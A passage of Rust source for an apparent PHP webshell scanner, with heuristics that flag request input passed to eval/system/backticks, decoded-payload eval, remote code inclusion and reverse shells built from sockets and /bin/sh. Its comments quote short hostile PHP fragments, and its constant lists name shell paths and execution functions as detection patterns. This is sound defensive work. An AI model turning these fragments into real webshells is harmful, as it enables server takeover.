        if n % 4096 == 4095 && late() {
            return false;
        }
        let here = at;
        at += s.len();
        let held = marks.within(here, at);
        seen = seen.or(held);
        let input = PHP_INPUT
            .iter()
            .enumerate()
            .find(|(k, _)| held.has(INPUT_WORDS + k))
            .map(|(_, i)| i);
        // `parse_str($_SERVER['QUERY_STRING'], $p)`: the request's parameters, in `$p`.
        if parses
            && let Some(p) = find(s, "parse_str(")
            && let Some(args) =
                crate::php_tricks::arguments(near(&s[p + "parse_str".len()..], 4096))
            && let [from, into] = args[..]
            && (PHP_INPUT.iter().any(|i| from.starts_with(i))
                || from.starts_with("$_server['query_string']")
                || from.starts_with("$_server[\"query_string\"]"))
            && into.starts_with('$')
            && into[1..].chars().all(crate::flows::is_ident)
            && tainted.len() < 64
        {
            tainted.push(into.to_string());
        }
        // `preg_match('/(\w+):(.*)/', $d, $m)`: the groups in `$m` are pieces of the input.
        if matches
            && let Some(p) = find(s, "preg_match")
            && let Some(open) = s[p..].find('(')
            && let Some(args) = crate::php_tricks::arguments(near(&s[p + open..], 4096))
            && let [_, subject, into, ..] = args[..]
            && into.starts_with('$')
            && into.len() > 1
            && into[1..].chars().all(crate::flows::is_ident)
            && (PHP_INPUT.iter().any(|i| subject.starts_with(i))
                || copies_tainted(subject, &tainted))
            && tainted.len() < 64
            && !tainted.iter().any(|v| v == into)
        {
            tainted.push(into.to_string());
        }
        if input.is_none()
            && tainted.is_empty()
            && composed.is_empty()
            && !held.has(EVAL_WORD)
            && !held.has(ASSERT_WORD)
            && !(heredocs && s.contains("<<<"))
            && !getters.iter().any(|g| find(s, g).is_some())
        {
            continue;
        }
        // A statement of a comment (`// $res = shell_exec($cmd);`, ` * …`), or a line of a
        // `/* … */` block that starts like one, says what code could do, not what it does.
        let commented = {
            let lead = s.trim_start_matches(|c: char| c.is_whitespace() || c == '}' || c == '{');
            lead.starts_with("//")
                || lead.starts_with("/*")
                || lead.starts_with('#')
                || lead.starts_with('*')
                || in_comment(
                    comments.get_or_init(|| crate::php_tricks::comment_spans(t, 65_536)),
                    here,
                )
        };
        // `list($a, $b) = explode(':', $_COOKIE['s'])`, `[$a, $b] = …`: each name holds a
        // piece of the input.
        if !commented
            && let Some((names, rhs)) = destructured(s)
            && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
            && composes_input(rhs, &tainted, &composed)
        {
            for v in names {
                if composed.len() < 64 && !composed.iter().any(|c| c == v) {
                    composed.push(v.to_string());
                }
            }
        }
        // `$a['c'] = $_GET['c']`, `$o->c = …`, `A::$c = …`: a place in an array, object or
        // class that holds input, read back by that name (`system($a['c'])`).
        if !commented
            && let Some((place, value)) = assigned_place(s)
            && composed.len() < 64
            && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
            && !composed.iter().any(|c| c == place)
            && composes_input(value, &tainted, &composed)
        {
            composed.push(place.to_string());
        }
        if let Some((var, rhs)) = assigned_variable(s) {
            if tainted.len() < 64
                && (from_input(s) || copies_tainted(rhs, &tainted) || calls_getter(rhs, &getters))
            {
                tainted.push(var.to_string());
            } else if composed.len() < 64
                && !commented
                && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
                && !composed.iter().any(|c| c == var)
                && (composes_input(rhs, &tainted, &composed)
                    || heredocs_read < 4096 && rhs.trim_start().starts_with("<<<") && {
                        heredocs_read += 1;
                        heredoc_holds_input(
                            &t[rhs.as_ptr() as usize - t.as_ptr() as usize..],
                            &tainted,
                            &composed,
                        )
                    })
            {
                composed.push(var.to_string());
            }
        }
        // `$out .= $data[$i] ^ $k;`: text added to a variable, a piece at a time.
        if !commented
            && let Some((var, value)) = appended_variable(s)
            && composed.len() < 64
            && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
            && !composed.iter().any(|c| c == var)
            && !tainted.iter().any(|c| c == var)
            && composes_input(value, &tainted, &composed)
        {
            composed.push(var.to_string());
        }
        // `$_SESSION['p'] = $_POST['s']`: the session hands the input back, on this request
        // and every later one.
        if s.trim_start().starts_with("$_session[")
            && from_input(s)
            && tainted.len() < 64
            && !tainted.iter().any(|v| v == "$_session")
        {
            tainted.push("$_session".into());
        }
        // `foreach ($_GET as $k => $v)`: each key and value is input.
        if let Some((walked, vars)) = foreach_variables(s) {
            if PHP_INPUT.iter().any(|i| walked.starts_with(i)) || copies_tainted(walked, &tainted) {
                for v in vars {
                    if tainted.len() < 64 && !tainted.iter().any(|t| t == v) {
                        tainted.push(v.to_string());
                    }
                }
            } else if !commented && composes_input(walked, &tainted, &composed) {
                // `foreach ([$_GET['a']] as $c)`: a list that holds input.
                for v in vars {
                    if composed.len() < 64 && !composed.iter().any(|c| c == v) {
                        composed.push(v.to_string());
                    }
                }
            }
        }
        // The sinks the statement names; the first it calls.
        let sinks = || {
            PHP_EXEC
                .iter()
                .enumerate()
                .filter(|(k, _)| held.has(EXEC_WORDS + k))
                .map(|(_, e)| e)
        };
        let called = sinks().find(|e| contains_call(s, e));
        if let Some(sink) = called {
            let call = s.find(sink).map(|p| &s[p + sink.len()..]).unwrap_or("");
            // `create_function('$a', $code)`: the code is the second argument.
            let call = if *sink == "create_function(" {
                s.find(sink)
                    .and_then(|p| crate::php_tricks::arguments(&s[p + sink.len() - 1..]))
                    .and_then(|args| args.get(1).copied())
                    .unwrap_or(call)
            } else {
                call
            };
            // String functions and decoders keep the input what it was: `eval(substr($s, 4))`.
            let arg = crate::php_tricks::unwrapped(call.trim_start());
            if let Some(var) = tainted
                .iter()
                .find(|v| starts_with_name(arg, v))
                .or_else(|| {
                    getters
                        .iter()
                        .find(|g| calls_getter(arg, std::slice::from_ref(g)))
                })
            {
                hits.push(hit(
                    "scan.heuristic.input_to_exec",
                    Severity::Critical,
                    "Request input passed to code or command execution",
                    format!("`{var}` is set from request input and then given to `{sink}…)`: whoever sends the request chooses the code or command the server runs"),
                    here,
                ));
                return true;
            }
            // Or input put together with other text, in the argument that is run:
            // `system("ls " . $d)`, `system($e)` after `$e = $d . " 2>&1"`, or
            // `pcntl_exec('/bin/sh', array('-c', $d))`. Not through an escaping call.
            if !commented
                && (!tainted.is_empty() || !composed.is_empty() || input.is_some())
                && run_arguments(s, sink).iter().any(|a| {
                    if held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3) {
                        escaped_into_shell(a, &tainted, &composed)
                    } else {
                        composes_input(a, &tainted, &composed)
                    }
                })
            {
                hits.push(hit(
                    "scan.heuristic.input_to_exec",
                    Severity::Critical,
                    "Request input passed to code or command execution",
                    format!("request input, joined with other text, is what `{sink}…)` runs: whoever sends the request chooses the code or command the server runs"),
                    here,
                ));
                return true;
            }
        }
        // `fwrite($pipes[0], file_get_contents('php://input'))` to that shell.
        if let Some(shell) = bare_shell
            && !commented
            && let Some(write) = ["fwrite(", "fputs("].iter().find(|w| contains_call(s, w))
            && let Some(p) = find_all(s, write).find(|&p| plain_name_at(s, p))
            && let Some(args) = crate::php_tricks::arguments(near(&s[p + write.len() - 1..], 4096))
            && let Some(data) = args.get(1)
            && (PHP_INPUT.iter().any(|i| data.contains(i))
                || composes_input(data, &tainted, &composed))
        {
            hits.push(hit(
                "scan.heuristic.input_to_exec",
                Severity::Critical,
                "Request input passed to code or command execution",
                format!("request input is written (`{}…)`) to the standard input of `{shell}`, started with no command of its own: the shell runs whatever the request sends", write.trim_end_matches('(')),
                here,
            ));
            return true;
        }
        // A statement that defines a function named like a sink is not a call of it.
        let sink = called.and_then(|first| {
            let defines = |e: &&str| s.contains(&format!("function {e}"));
            if !defines(first) {
                Some(first)
            } else {
                sinks().find(|e| contains_call(s, e) && !defines(e))
            }
        });
        if let (Some(input), Some(sink)) = (input, sink)
            && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
        {
            hits.push(hit(
                "scan.heuristic.input_to_exec",
                Severity::Critical,
                "Request input passed to code or command execution",
                format!(
                    "one statement reads request input (`{input}`) and calls `{sink}…)`: whoever sends the request chooses the code or command the server runs"
                ),
                here,
            ));
            return true;
        }
        let evaluates = (held.has(EVAL_WORD) && contains_call(s, "eval("))
            || (held.has(ASSERT_WORD) && contains_call(s, "assert("));
        let decoders = (0..DECODERS.len())
            .filter(|k| held.has(DECODER_WORDS + k))
            .count();
        if evaluates && decoders >= 1 {
            hits.push(hit(
                "scan.heuristic.eval_decoded",
                Severity::Critical,
                "eval() of a decoded payload",
                format!(
                    "one statement unwraps data with {decoders} decoder(s) (base64/gzinflate/rot13/strrev…) and evaluates the result as PHP: code hidden from reading"
                ),
                here,
            ));
            return true;
        }
        if input.is_some()
            && held.has(PREG_WORD)
            && (s.contains("/e\"")
                || s.contains("/e'")
                || s.contains("/ie\"")
                || s.contains("/ie'"))
        {
            hits.push(hit(
                "scan.heuristic.preg_e",
                Severity::Critical,
                "preg_replace /e on request input",
                "the /e modifier evaluates the replacement as PHP, and the statement reads request input".into(),
                here,
            ));
            return true;
        }
        // `{` ends a statement, and `` `{$_GET['c']}` `` holds one. Whole lines are read for
        // the first 1,000 statements: a page of nothing else would be read again and again.
        let whole_lines = lines_read < 1000;
        // Or a variable that holds input, in backticks of the statement itself: `` `$c` ``.
        let carried_tick =
            input.is_none() && held.has(TICK_WORD) && !(tainted.is_empty() && composed.is_empty());
        if (input.is_some() && (held.has(TICK_WORD) || whole_lines && s.ends_with('}'))
            || carried_tick)
            && !s.contains("sql")
            && !s.contains("select")
        {
            let s = if whole_lines && !carried_tick {
                lines_read += 1;
                line_around(t, here, at)
            } else {
                s
            };
            let comment = s.trim_start().starts_with('*') || s.trim_start().starts_with("//");
            // Each backticked span in turn (`echo \`$cmd\`. \`$_GET[u]\``): used as a value
            // (`= \`…\``, `echo \`…\``, `. \`…\``), not Markdown in a doc comment.
            let ticks: Vec<usize> = s.match_indices('`').map(|(i, _)| i).take(16).collect();
            let command = ticks.chunks_exact(2).any(|pair| {
                let before = s[..pair[0]].trim_end();
                let as_value = ["=", "(", "echo", "print", "return", "."]
                    .iter()
                    .any(|w| before.ends_with(w));
                // The backticked text itself must be a short command holding the input, not
                // backticks inside a string or a regex.
                let body = &s[pair[0] + 1..pair[1]];
                // Quotes of an array key (`{$_GET['c']}`) are not a string around the ticks.
                let unkeyed = body.replace("['", "[").replace("']", "]");
                let unkeyed = unkeyed.replace("[\"", "[").replace("\"]", "]");
                let holds_input = body.contains("$_")
                    || tainted.iter().any(|v| crate::php_tricks::uses(body, v))
                    || !commented && composed.iter().any(|v| crate::php_tricks::uses(body, v));
                as_value && body.len() < 160 && holds_input && !unkeyed.contains(['\'', '"', '~'])
            });
            if !comment && command {
                hits.push(hit(
                    "scan.heuristic.backticks",
                    Severity::Critical,
                    "Request input run in backticks",
                    "PHP backticks run their content as a shell command, and the content comes from the request".into(),
                    here,
                ));
                return true;
            }
        }
        // `$x = $_POST; $x['f']($x['a'])`: a function named by a variable that holds input.
        let code = !s.trim_start().starts_with('*') && !s.trim_start().starts_with("//");
        // Quotes before each variable, counted as the walk goes (not again from the
        // statement's start for each: one long statement of many variables is a hostile page).
        let mut quotes = (0usize, 0usize, 0usize);
        if code
            && !tainted.is_empty()
            && let Some(var) = variables(s)
                .find(|&(p, v)| {
                    let rest = &s[p + v.len()..];
                    let (from, double, single) = quotes;
                    let between = &s.as_bytes()[from..p];
                    quotes = (
                        p,
                        double + memchr::memchr_iter(b'"', between).count(),
                        single + memchr::memchr_iter(b'\'', between).count(),
                    );
                    // A call of the variable itself: not `->$v()`, not inside a string.
                    let plain = !s[..p].ends_with("->")
                        && !s[..p].ends_with("::")
                        && quotes.1.is_multiple_of(2)
                        && quotes.2.is_multiple_of(2);
                    tainted.iter().any(|t| t == v)
                        && plain
                        && (rest.starts_with('[')
                            && rest
                                .find(']')
                                .is_some_and(|c| rest[c + 1..].starts_with('('))
                            || rest.starts_with('('))
                })
                .map(|(_, v)| v)
        {
            hits.push(hit(
                "scan.heuristic.request_function",
                Severity::Critical,
                "Function name taken from the request",
                format!("`{var}` holds request input and is called as a function: the request chooses what runs"),
                here,
            ));
            return true;
        }
        if input.is_some()
            && held.any(INCLUDE_WORDS..INCLUDE_WORDS + 2)
            && let Some(inc) = [
                "include(",
                "include_once(",
                "require(",
                "require_once(",
                "include ",
                "require ",
            ]
            .iter()
            .find(|i| {
                s.trim_start().starts_with(*i)
                    || s.contains(&format!(" {i}"))
                    || s.contains(&format!("@{i}"))
            })
            && ["$_get[", "$_post[", "$_request[", "$_cookie["]
                .iter()
                .any(|i| s.contains(i))
        {
            hits.push(hit(
                "scan.heuristic.include_input",
                Severity::High,
                "File inclusion chosen by the request",
                format!("`{}` loads a file named by request input: any uploaded file or log line with PHP in it runs", inc.trim()),
                here,
            ));
            return true;
        }
        for i in ["$_get[", "$_post[", "$_request[", "$_cookie["]
            .iter()
            .filter(|_| input.is_some())
        {
            if let Some(pos) = s.find(i)
                && let Some(close) = s[pos..].find(']')
                && s[pos + close + 1..].trim_start().starts_with('(')
            {
                hits.push(hit(
                    "scan.heuristic.request_function",
                    Severity::Critical,
                    "Function name taken from the request",
                    format!(
                        "`{}…](…)` calls whatever function the request names",
                        &s[pos..pos + i.len()]
                    ),
                    here + pos,
                ));
                return true;
            }
        }
    }
    // `${"_G"."ET"}`, `$GLOBALS['_P'.'OST']`: superglobals named in pieces.
    for sg in ["${\"_", "${'_", "$globals['_'", "$globals[\"_\""] {
        if let Some(p) = find(t, sg) {
            let window = t.get(p..p + 40).unwrap_or(&t[p..]);
            if window.contains('.')
                && ["get", "post", "request", "cookie", "server"]
                    .iter()
                    .any(|w| window.contains(w) || window.contains(&w[..2]))
            {
                hits.push(hit(
                    "scan.heuristic.hidden_superglobal",
                    Severity::High,
                    "Request superglobal named in pieces",
                    "a superglobal such as $_POST is reached through a name assembled at run time, which hides request input from readers and scanners".into(),
                    p,
                ));
                break;
            }
        }
    }
    if late() {
        return false;
    }
    crate::php_tricks::scan(t, hits);
    capabilities(t, seen, hits);
    exec_fallbacks(t, hits);
    mail_log_write(t, hits);
    // The survey commands the file names, from the walk's one pass.
    let named: Vec<&str> = RECON_COMMANDS
        .iter()
        .enumerate()
        .filter(|(k, _)| seen.has(RECON_WORDS + k))
        .map(|(_, c)| *c)
        .collect();
    recon_commands(t, &named, hits);
    php_reverse_shell(t, hits);
    // `://` also where the scheme is split: `'ht' . 'tp://…'`. Most files name a URL in a
    // comment: only those that include, or evaluate and fetch, are read further.
    let evaluates = seen.has(EVAL_WORD)
        || seen.has(ASSERT_WORD)
        || PHP_EXEC
            .iter()
            .position(|e| *e == "create_function(")
            .is_some_and(|k| seen.has(EXEC_WORDS + k));
    if find(t, "://").is_some()
        && (seen.any(INCLUDE_WORDS..INCLUDE_WORDS + 2)
            || evaluates
                && ["file_get_contents(", "fopen(", "file(", "curl_exec("]
                    .iter()
                    .any(|f| find(t, f).is_some()))
    {
        remote_code(t, evaluates, hits);
    }
    if seen.any(INPUT_WORDS..INPUT_WORDS + PHP_INPUT.len()) {
        let sinks: Vec<&str> = PHP_EXEC
            .iter()
            .enumerate()
            .filter(|(k, _)| seen.has(EXEC_WORDS + k))
            .map(|(_, e)| *e)
            .collect();
        wrapped_sink(t, &sinks, (&tainted, &composed), &comments, hits);
    }
    if let Some((offset, name)) = assembled_name(t) {
        hits.push(hit(
            "scan.heuristic.assembled_name",
            Severity::High,
            "Dangerous function name assembled from pieces",
            format!(
                "the name `{name}` is built by joining string pieces or character codes, a way to hide it from signature scanners; benign code has no reason to"
            ),
            offset,
        ));
    }
    true
}

/// `function run($c) { @assert($c); } run($_POST['x']);`: a function of the file's own that
/// hands its parameter straight to a sink, called with request input. Shells wrap the sink so
/// that no statement holds both the input and `assert(`. Only for files that read input.
///
/// `holders` are the variables the statement walk found holding input, whole or joined with
/// text: `$c = $_GET['c']; run($c)` is the same call.
/// `comments` is the walk's list of the file's comments, found when first needed.
fn wrapped_sink(
    t: &str,
    sinks: &[&str],
    holders: (&[String], &[String]),
    comments: &std::cell::OnceCell<Vec<(usize, usize)>>,
    hits: &mut Vec<Hit>,
) {
    // Backticks run their content as a command: `` return `$c`; ``.
    let ticks = find(t, "`$").is_some().then_some("`");
    if sinks.is_empty() && ticks.is_none() {
        return;
    }
    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
    // From each sink call whose argument is a plain variable back to the function around it:
    // the work follows the few sink calls, not the many functions.
    let mut wrappers: Vec<(&str, &str)> = Vec::new();
    for sink in sinks.iter().chain(&ticks) {
        for at in find_all(t, sink).take(1000) {
            if *sink != "`" && !plain_name_at(t, at) {
                continue;
            }
            // Backticks as code, not inside a string of the statement: an even number of
            // quotes of each kind since its last `;` or brace (within 400 bytes).
            if *sink == "`" {
                // A short command closed on its line, outside comments (`` `$post` `` in a
                // doc comment names a parameter).
                let body = near(&t[at + 1..], 160);
                let closed = body.find(['`', '\n']).is_some_and(|e| {
                    body[e..].starts_with('`') && !body[..e].contains(['\'', '"'])
                });
                if !t[at + 1..].starts_with('$')
                    || !closed
                    || in_comment(
                        comments.get_or_init(|| crate::php_tricks::comment_spans(t, 65_536)),
                        at,
                    )
                {
                    continue;
                }
                let from = t.floor_char_boundary(at.saturating_sub(400));
                let before = &t[from..at];
                let before = &before[before.rfind([';', '{', '}']).map_or(0, |p| p + 1)..];
                if before.matches('"').count() % 2 == 1 || before.matches('\'').count() % 2 == 1 {
                    continue;
                }
            }
            let arg = t[at + sink.len()..].trim_start().trim_start_matches('@');
            let Some(var) = arg
                .strip_prefix('$')
                .map(|r| &arg[..1 + r.find(|c: char| !ident(c)).unwrap_or(r.len())])
                .filter(|v| v.len() > 1)
            else {
                continue;
            };
            // The function around it, near enough: the last `function` within 2 KiB.
            let from = t.floor_char_boundary(at.saturating_sub(2048));
            let Some(f) = t[from..at].rfind("function ") else {
                continue;
            };
            let rest = &t[from + f + "function ".len()..at];
            let declared = &rest[..rest.find(|c: char| !ident(c)).unwrap_or(rest.len())];
            let mut name = declared;
            // A closure kept in a variable, `$f = function ($s) { … }`: called as `$f(…)`.
            if name.is_empty()
                && let Some(before) = t[from..from + f].trim_end().strip_suffix('=')
                && let Some(d) = before.trim_end().rfind('$')
                && before.trim_end()[d + 1..].chars().all(ident)
                && before.trim_end().len() > d + 1
            {
                name = &before.trim_end()[d..];
            }
            let Some(params) = rest[declared.len()..].trim_start().strip_prefix('(') else {
                continue;
            };
            let params = &params[..params.find(')').unwrap_or(0)];
            let takes = params.split(',').any(|p| {
                p.split(['=', ' '])
                    .any(|w| w.trim_start_matches('&') == var)
            });
            if takes && !name.is_empty() && !wrappers.iter().any(|(n, _)| *n == name) {
                wrappers.push((name, sink));
            }
            if wrappers.len() >= 16 {
                break;
            }
        }
    }
    for (name, sink) in wrappers {
        let sink = if sink == "`" {
            "`…` (backticks"
        } else {
            sink
        };
        // Handed by name to a function that calls it back:
        // `preg_replace_callback('/.+/', 'run', $_POST['z'])`.
        if !name.starts_with('$')
            && let Some(at) = called_back(t, name, holders)
        {
            hits.push(hit(
                "scan.heuristic.wrapped_sink",
                Severity::Critical,
                "Request input passed to code execution through a wrapper",
                format!("`{name}()` hands its parameter to `{sink}…)` and is handed by name to a function that calls it back with request input: whoever sends the request chooses what runs"),
                at,
            ));
            return;
        }
        for at in find_all(t, name) {
            // A method is called on its object or class: `Cmd::run(…)`, `$o->run(…)`.
            let method = t[..at].ends_with("->") || t[..at].ends_with("::");
            if !(plain_name_at(t, at) || method) || t[..at].trim_end().ends_with("function") {
                continue;
            }
            let call = t[at + name.len()..].trim_start();
            if !call.starts_with('(') {
                continue;
            }
            // To its `;`, within 400 bytes: a file of many calls and no `;` is not searched
            // to its end from each.
            let statement = near(call, 400);
            let statement = &statement[..statement.find(';').unwrap_or(statement.len())];
            let (tainted, composed) = holders;
            let input = PHP_INPUT
                .iter()
                .find(|i| statement.contains(*i))
                .map(|i| format!("`{i}`"))
                .or_else(|| {
                    // Within the statement's first 400 bytes, as the input is looked for.
                    let args = crate::php_tricks::arguments(statement)?;
                    args.iter()
                        .any(|a| composes_input(a, tainted, composed))
                        .then(|| "a variable that holds it".to_string())
                });
            if let Some(input) = input {
                hits.push(hit(
                    "scan.heuristic.wrapped_sink",
                    Severity::Critical,
                    "Request input passed to code execution through a wrapper",
                    format!("`{name}()` hands its parameter to `{sink}…)` and is called with request input ({input}): whoever sends the request chooses what runs"),
                    at,
                ));
                return;
            }
        }
    }
}

/// Where a callback-taking call (`array_map`, `preg_replace_callback`, …) is handed the
/// function `name` as a string and request input, or a variable that holds it, in the same
/// statement: the first 1,000 places the name is quoted.
fn called_back(t: &str, name: &str, (tainted, composed): (&[String], &[String])) -> Option<usize> {
    ["'", "\""].iter().find_map(|q| {
        let quoted = format!("{q}{name}{q}");
        find_all(t, &quoted).take(1000).find_map(|at| {
            // The statement around it, within 400 bytes either side.
            let from = t.floor_char_boundary(at.saturating_sub(400));
            let from = t[from..at]
                .rfind([';', '{', '}'])
                .map_or(from, |p| from + p + 1);
            let rest = near(&t[at..], 400);
            let statement = &t[from..at + rest.find(';').unwrap_or(rest.len())];
            let (p, args) = crate::php_tricks::callback_call(statement)?;
            let input = args.iter().any(|a| {
                PHP_INPUT.iter().any(|i| a.contains(i)) || composes_input(a, tainted, composed)
            });
            (input && args.iter().any(|a| a.trim() == quoted)).then_some(from + p)
        })
    })
}

/// `eval(file_get_contents('http://…'))`, `include 'http://…'`: PHP fetched from a server and
/// run, directly or through the variables it is kept in (the first 100,000 statements). A
/// loader that keeps the webshell itself off the disk, or a backdoor of whoever holds that
/// server; applications load their code from their own files.
fn remote_code(t: &str, evaluates: bool, hits: &mut Vec<Hit>) {
    // A URL literal, or literal pieces joined into one (`'ht' . 'tp://…'`).
    let url = |v: &str| {
        let mut text = String::new();
        for part in concatenated(near(bare_php_value(v), 1024)).take(16) {
            // The last part runs on to the end of the call: `'http://…');`.
            let part = part.trim().trim_end_matches([')', ';']).trim_end();
            let q = part.chars().next().filter(|c| matches!(c, '\'' | '"'));
            match q.and_then(|q| part[1..].strip_suffix(q)) {
                Some(inner) if !inner.contains(['\'', '"']) => text.push_str(inner),
                _ => break,
            }
            if text.len() > 8 {
                break;
            }
        }
        ["http://", "https://", "ftp://"]
            .iter()
            .any(|s| text.starts_with(s))
    };
    // The includes, each read where it stands (the first 1,000 of each word): the argument a
    // URL, or a variable the file sets to one.
    let mut named: Vec<&str> = Vec::new();
    for word in ["include", "require"] {
        for p in find_all(t, word).take(1000) {
            let rest = t[p + word.len()..].trim_start_matches("_once");
            if !plain_name_at(t, p) || !rest.starts_with([' ', '(', '\'', '"']) {
                continue;
            }
            let arg = bare_php_value(near(rest, 1024));
            if url(arg) {
                return remote_hit(p, hits);
            }
            let len = arg
                .get(1..)
                .and_then(|a| a.find(|c: char| !crate::flows::is_ident(c)))
                .map_or(arg.len(), |l| l + 1);
            if arg.starts_with('$') && len > 1 && named.len() < 16 {
                named.push(&arg[..len]);
            }
        }
    }
    for var in named {
        for p in find_all(t, var).take(100) {
            let after = near(&t[p + var.len()..], 1024);
            if let Some(value) = after.trim_start().strip_prefix('=')
                && !after.starts_with(crate::flows::is_ident)
                && !value.starts_with(['=', '>'])
                && url(value)
            {
                return remote_hit(p, hits);
            }
        }
    }
    if !evaluates {
        return;
    }
    const FETCHES: &[&str] = &[
        "file_get_contents(",
        "file(",
        "fopen(",
        "stream_get_contents(fopen(",
    ];
    let mut urls: Vec<&str> = Vec::new();
    let mut fetched: Vec<&str> = Vec::new();
    // Whether `v` fetches a URL: a fetch call of a URL or of a variable holding one, or
    // `curl_exec(`.
    let fetches = |v: &str, urls: &[&str]| {
        let v = crate::php_tricks::unwrapped(v);
        v.starts_with("curl_exec(")
            || FETCHES.iter().any(|f| {
                v.strip_prefix(f).is_some_and(|arg| {
                    url(arg)
                        || urls
                            .iter()
                            .any(|u| starts_with_name(bare_php_value(arg), u))
                })
            })
    };
    for (n, s) in php_statements(t).enumerate() {
        if n >= 100_000 {
            break;
        }
        if let Some((var, rhs)) = assigned_variable(s) {
            if url(rhs) && urls.len() < 16 {
                urls.push(var);
            } else if fetches(rhs, &urls) && fetched.len() < 16 {
                fetched.push(var);
            }
        }
        let Some(arg) = ["eval(", "assert(", "create_function("]
            .iter()
            .find_map(|e| {
                let p = find_all(s, e).find(|&p| plain_name_at(s, p))?;
                if *e != "create_function(" {
                    return Some(&s[p + e.len()..]);
                }
                // `create_function('', $code)`: the body is the second argument.
                crate::php_tricks::arguments(near(&s[p + e.len() - 1..], 4096))
                    .and_then(|args| args.get(1).copied())
            })
        else {
            continue;
        };
        // `eval('?>' . $code)`: any part of what is evaluated, the variable whole, not a test
        // of it (`assert($page !== false)`).
        let reached = concatenated(near(arg, 4096)).take(16).any(|part| {
            let part = crate::php_tricks::unwrapped(part.trim());
            fetches(part, &urls)
                || fetched.iter().any(|f| {
                    part.strip_prefix(f).is_some_and(|r| {
                        r.trim_matches(|c: char| c == ')' || c == ';' || c.is_whitespace())
                            .is_empty()
                    })
                })
        });
        if reached {
            return remote_hit(s.as_ptr() as usize - t.as_ptr() as usize, hits);
        }
    }
}

/// The hit of [`remote_code`] at `at`.
fn remote_hit(at: usize, hits: &mut Vec<Hit>) {
    hits.push(hit(
        "scan.heuristic.remote_code",
        Severity::High,
        "PHP runs code fetched from a URL",
        "the script downloads PHP from a server and runs it (`eval` or `include` of a URL's content): whoever holds that server runs code here, and the webshell itself never touches this disk".into(),
        at,
    ));
}

/// A PHP reverse or bind shell: a network socket, a process with pipes, and a shell to run
/// in it. Mail and HTTP libraries open sockets and start `sendmail`, but do not name a shell.
fn php_reverse_shell(t: &str, hits: &mut Vec<Hit>) {
    const SOCKETS: &[&str] = &[
        "fsockopen(",
        "pfsockopen(",
        "socket_create(",
        "stream_socket_client(",
        "stream_socket_server(",
    ];
    const PROCESSES: &[&str] = &["proc_open(", "popen("];
    const SHELLS: &[&str] = &["/bin/sh", "/bin/bash", "cmd.exe", "sh -i"];
    // One pass for the common part of every socket call: most files have none.
    if !t.contains("sock") {
        return;
    }
    let Some(socket) = SOCKETS.iter().find(|c| contains_call(t, c)) else {
        return;
    };
    let Some(process) = PROCESSES.iter().find(|c| contains_call(t, c)) else {
        socket_commands(t, socket, hits);
        return;
    };
    let Some((at, shell)) = SHELLS.iter().find_map(|s| t.find(s).map(|p| (p, s))) else {
        return;
    };
    hits.push(hit(
        "scan.heuristic.php_reverse_shell",
        Severity::High,
        "Shell wired to a network socket",
        format!("the script opens a socket (`{socket}…)`), starts a process with pipes (`{process}…)`) and names `{shell}`: a remote shell for whoever is at the other end"),
        at,
    ));
}

/// `$c = trim(fgets($sock)); … shell_exec($c)`: a script that opened a socket runs what it
/// reads from it. Clients read replies from sockets; they do not run them.
fn socket_commands(t: &str, socket: &str, hits: &mut Vec<Hit>) {
    const READS: &[&str] = &["fgets(", "fread(", "socket_read(", "stream_get_line("];
    let mut read: Vec<&str> = Vec::new();
    for (n, s) in t.split_inclusive([';', '\n', '{', '}']).enumerate() {
        if n >= 100_000 || read.len() >= 16 {
            break;
        }
        let Some((var, rhs)) = assigned_variable(s) else {
            continue;
        };
        let rhs = without_calls(rhs, &["trim(", "rtrim(", "chop("]);
        if READS.iter().any(|r| rhs.starts_with(r)) {
            read.push(var);
        }
    }
    let Some((var, at, sink)) = read
        .iter()
        .find_map(|v| crate::php_tricks::sink_of(t, v).map(|(at, sink)| (v, at, sink)))
    else {
        return;
    };
    hits.push(hit(
        "scan.heuristic.php_reverse_shell",
        Severity::High,
        "Commands read from a network socket and run",
        format!("the script opens a socket (`{socket}…)`), reads `{var}` from it and gives it to `{sink}(…)`: whoever is at the other end runs commands here"),
        at,
    ));
}

/// Full-featured webshells ("大马") read request input and bundle command execution, file
/// management, system information and often database or network access in one file; a CMS
/// file rarely carries three of the execution functions at once, let alone with the rest.
fn capabilities(t: &str, seen: Held, hits: &mut Vec<Hit>) {
    // Each execution function below is one of PHP_EXEC: only those the file names are searched.
    if !seen.any(INPUT_WORDS..INPUT_WORDS + PHP_INPUT.len()) {
        return;
    }
    let named = |c: &&&str| {
        PHP_EXEC
            .iter()
            .position(|e| e == *c)
            .is_none_or(|k| seen.has(EXEC_WORDS + k))
    };
    let exec = [
        "system(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "proc_open(",
        "pcntl_exec(",
        "exec(",
    ]
    .iter()
    .filter(named)
    .filter(|c| contains_call(t, c))
    .count();
    if exec < 3 {
        return;
    }
    let groups: [(&str, &[&str]); 4] = [
        (
            "file management",
            &[
                "unlink(",
                "rmdir(",
                "chmod(",
                "rename(",
                "move_uploaded_file(",
                "file_put_contents(",
                "touch(",
            ],
        ),
        (
            "system information",
            &[
                "php_uname(",
                "posix_getpwuid(",
                "getmyuid(",
                "disk_free_space(",
                "ini_get('disable_functions')",
                "ini_get(\"disable_functions\")",
            ],
        ),
        (
            "network",
            &[
                "fsockopen(",
                "socket_create(",
                "stream_socket_client(",
                "curl_exec(",
            ],
        ),
        (
            "database",
            &[
                "mysql_connect(",
                "mysqli_connect(",
                "new mysqli(",
                "pg_connect(",
                "new pdo(",
            ],
        ),
    ];
    let present: Vec<&str> = groups
        .iter()
        .filter(|(_, calls)| {
            calls
                .iter()
                .filter(|c| contains_call(t, c) || t.contains(*c))
                .count()
                >= 2
        })
        .map(|(name, _)| *name)
        .collect();
    if present.len() >= 2 {
        hits.push(hit(
            "scan.heuristic.capabilities",
            Severity::High,
            "Multi-function webshell capabilities",
            format!(
                "the script reads request input, calls {exec} different command-execution functions and bundles {}: the toolkit of a full-featured webshell",
                present.join(", ")
            ),
            0,
        ));
    }
}

/// The functions a shell tries in turn to run a command, whichever the host left enabled.
const COMMAND_FUNCTIONS: &[&str] = &[
    "exec",
    "shell_exec",
    "system",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
];

